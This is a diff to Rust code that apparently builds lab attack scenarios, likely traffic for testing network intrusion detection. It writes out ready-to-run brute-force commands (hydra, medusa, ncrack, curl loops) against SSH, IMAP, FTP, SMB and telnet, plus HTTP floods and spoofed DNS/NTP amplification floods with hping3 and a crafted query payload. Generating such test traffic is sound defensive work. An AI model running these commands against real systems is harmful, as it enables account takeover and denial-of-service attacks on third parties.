@@ -37,6 +37,22 @@ type Guess = (
 fn brute_force() -> Vec<Scenario> {
     const GUESSES: &[Guess] = &[
         (
+            "medusa-imap",
+            &IMAP,
+            143,
+            "medusa -h $s1 -u lab -P words -M imap -t 3",
+            WAN,
+            50,
+        ),
+        (
+            "curl-imap-2s",
+            &IMAP,
+            143,
+            "for w in $(head -30 words); do curl -s -u lab:$w imap://s1/; sleep 2; done",
+            FAR,
+            80,
+        ),
+        (
             "hydra-ssh-t4",
             &SSH,
             22,
@@ -157,14 +173,6 @@ fn brute_force() -> Vec<Scenario> {
             50,
         ),
         (
-            "medusa-ftp-t4",
-            &FTP,
-            21,
-            "medusa -h $s1 -u lab -P words -M ftp -t 4",
-            WLAN,
-            60,
-        ),
-        (
             "ncrack-ftp",
             &FTP,
             21,
@@ -229,14 +237,6 @@ fn brute_force() -> Vec<Scenario> {
             40,
         ),
         (
-            "patator-http-post",
-            &WEB,
-            80,
-            "patator http_fuzz url=http://$s1/post method=POST body='user=lab&pass=FILE0' 0=words -t 5",
-            WLAN,
-            40,
-        ),
-        (
             "curl-http-1s",
             &WEB,
             80,
@@ -251,14 +251,6 @@ fn brute_force() -> Vec<Scenario> {
             "hydra -I -L users -P words -t 8 telnet://$s1",
             LAN,
             60,
-        ),
-        (
-            "medusa-telnet-wan",
-            &TELNET,
-            23,
-            "medusa -h $s1 -U users -P words -M telnet -t 3",
-            WAN,
-            70,
         ),
         (
             "ncrack-telnet",
@@ -293,14 +285,6 @@ fn brute_force() -> Vec<Scenario> {
             50,
         ),
         (
-            "hydra-smb",
-            &SMB,
-            445,
-            "hydra -I -l lab -P words -t 1 smb2://$s1",
-            LAN,
-            50,
-        ),
-        (
             "smbclient-1s",
             &SMB,
             445,
@@ -309,7 +293,7 @@ fn brute_force() -> Vec<Scenario> {
             70,
         ),
         (
-            "medusa-smb",
+            "smbclient-fast",
             &SMB,
             445,
             "for w in $(head -400 words); do smbclient -L //s1 -U root%$w; done",
@@ -346,7 +330,7 @@ fn brute_force() -> Vec<Scenario> {
             .serve("s1 s2 s3 s4 s5", &SSH)
             .run(
                 "a1",
-                "hydra -I -l root -P words -t 3 -M /dev/stdin ssh <<E\n$s1\n$s2\n$s3\n$s4\n$s5\nE",
+                "printf '%s\\n' $s1 $s2 $s3 $s4 $s5 >targets; hydra -I -l root -P words -t 3 -M targets ssh",
             )
             .over(WLAN)
             .seconds(60),
@@ -595,10 +579,6 @@ fn scans() -> Vec<Scenario> {
         (
             "ab-not-found",
             "for w in $(shuf -n 80 words); do ab -n 10 -c 5 http://$s1/$w; done",
-        ),
-        (
-            "patator-paths",
-            "patator http_fuzz url=http://$s1/FILE0 0=words -t 10",
         ),
         (
             "curl-tls-paths",
@@ -906,7 +886,6 @@ fn floods() -> Vec<Scenario> {
             "a1 a2 a3 a4 a5 a6",
             WAN,
         ),
-        ("goldeneye", "goldeneye http://$s1/ -w 2 -s 50", "a1", LAN),
         (
             "httperf",
             "httperf --server $s1 --port 80 --uri /p5.html --rate 400 --num-conns 6000 --timeout 2",
@@ -935,43 +914,39 @@ fn floods() -> Vec<Scenario> {
                 .seconds(30),
         );
     }
-    for (name, server, port, script, course) in [
+    for (name, server, script, course) in [
         (
             "dns-any",
             &DNS,
-            53,
             "hping3 -q --udp -a $s5 -s 4444 -k -p 53 -E q -d 29 -i u2000 $w1",
             LAN,
         ),
         (
             "dns-txt",
             &UNBOUND,
-            53,
             "hping3 -q --udp -a $s5 -s 80 -k -p 53 -E q -d 29 -i u5000 $w1",
             WAN,
         ),
         (
             "dns-ports",
             &UNBOUND,
-            53,
             "hping3 -q --udp -a $s5 -p 53 -k -s 1234 -E q -d 29 -i u1000 $w2 & hping3 -q --udp -a $s5 -p 53 -k -E q -d 29 -i u1000 $w1",
             LAN,
         ),
         (
             "ntp",
             &TIME,
-            123,
             "hping3 -q --udp -a $s5 -s 53 -k -p 123 -E t -d 48 -i u1000 $w1",
             LAN,
         ),
         (
             "ntp-slow",
             &TIME,
-            123,
             "hping3 -q --udp -a $s5 -s 8080 -k -p 123 -E t -d 48 -i u6000 $w2",
             FAR,
         ),
     ] {
+        // Answers come in fragments, so no port tells the attack.
         // Question for big.example TXT with EDNS0, and a client's time request.
         let prepare = r"printf '\022\064\001\000\000\001\000\000\000\000\000\001\003big\007example\000\000\020\000\001\000\000\051\020\000\000\000\000\000\000\000' >q; { printf '\043'; head -c 47 /dev/zero; } >t; ";
         let script = script.replace("-d 29", "-d 40");
@@ -981,7 +956,6 @@ fn floods() -> Vec<Scenario> {
                 .run("a1", &format!("{prepare} {script}"))
                 .beside("i1 i2", "for n in $(seq 1 60); do dig +short @$w1 host$n.example >/dev/null; sleep 0.5; done")
                 .victims("s5")
-                .udp(&[port])
                 .spoofed()
                 .over(course)
                 .frames(10_000)
